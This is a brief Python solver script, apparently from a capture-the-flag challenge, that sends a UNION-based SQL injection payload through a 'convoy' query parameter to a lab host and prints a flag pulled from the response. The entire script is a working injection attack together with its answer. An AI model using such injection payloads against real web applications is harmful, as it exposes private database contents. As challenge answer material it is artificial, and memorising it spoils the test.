"""Solver: UNION-based SQL injection through the convoy lookup; prints the flag."""

import re
import urllib.parse
import urllib.request

payload = "0 UNION SELECT classification, body FROM orders"
url = "http://portal:8080/?" + urllib.parse.urlencode({"convoy": payload})
page = urllib.request.urlopen(url, timeout=10).read().decode()
print(re.search(r"ICE\{[0-9a-f]+\}", page).group())
